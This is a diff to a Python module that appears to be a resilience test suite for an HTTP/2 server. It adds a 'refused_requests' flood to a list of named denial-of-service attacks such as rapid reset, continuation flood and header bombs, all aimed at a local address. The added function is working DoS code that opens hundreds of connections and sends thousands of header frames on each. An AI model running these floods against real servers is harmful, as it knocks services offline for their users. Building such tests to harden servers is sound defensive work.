@@ -6,7 +6,7 @@ import socket
 import struct
 import time
 
-from .wire import (CANCEL, CONTINUATION, DATA, EMPTY, END_HEADERS, HEADERS, HEALTH, LARGEST_WINDOW, MESSAGE, PING,
+from .wire import (CANCEL, CONTINUATION, DATA, EMPTY, END_HEADERS, END_STREAM, HEADERS, HEALTH, LARGEST_WINDOW, MESSAGE, PING,
                    PREFACE, PRIORITY, RST_STREAM, connect, frame, literal, request, request_block, settings,
                    window_update)
 
@@ -18,6 +18,7 @@ ELSEWHERE = "127.0.0.2"  # an attacker who takes what an address may have takes 
 FULL = 16384  # as long as a frame may be
 STREAMS = 10000
 SILENT = 10000
+REFUSED_CONNECTIONS = 250
 
 
 # ---- how an attacker sends ----
@@ -175,6 +176,28 @@ def endless_streams(port, until):
           source=ELSEWHERE)
 
 
+def refused_requests(port, until):
+    """GETs on many connections at once, as many as the server reads of each in one go, in 13 bytes each."""
+    fields = [(b":method", b"GET"), (b":scheme", b"http"), (b":path", b"/")]
+    first = frame(HEADERS, END_HEADERS | END_STREAM, 1,
+                  b"".join(literal(*field) for field in fields) + literal(b":authority", b"a", indexed=True))
+    indexed = bytes([0x82, 0x86, 0x84, 0xbe])
+    more = b"".join(frame(HEADERS, END_HEADERS | END_STREAM, stream, indexed) for stream in range(3, 5003, 2))
+    while time.monotonic() < until:
+        opened = []
+        try:
+            for _ in range(REFUSED_CONNECTIONS):
+                opened.append(connect(port, PREFACE + settings() + first, source=ELSEWHERE))
+            for connection in opened:
+                connection.setblocking(False)
+                connection.send(more)
+            time.sleep(0.5)
+        except OSError:
+            time.sleep(0.001)
+        for connection in opened:
+            connection.close()
+
+
 def silent_connections(port, until):
     hold(port, until, SILENT, b"")
 
@@ -193,8 +216,8 @@ DESCRIPTORS = 64  # of the server, in the last one
 
 ATTACKS = [rapid_reset, continuation_flood, empty_continuation_flood, settings_flood, ping_flood, unread_ping_flood,
            indexed_header_bomb, one_huge_header, empty_data_flood, priority_flood, one_byte_windows, zero_windows,
-           untaken_streams, never_reads, half_messages, endless_streams, silent_connections, half_a_frame,
-           descriptors_used_up]
+           untaken_streams, never_reads, half_messages, endless_streams, refused_requests, silent_connections,
+           half_a_frame, descriptors_used_up]
 
 
 def title(attack):
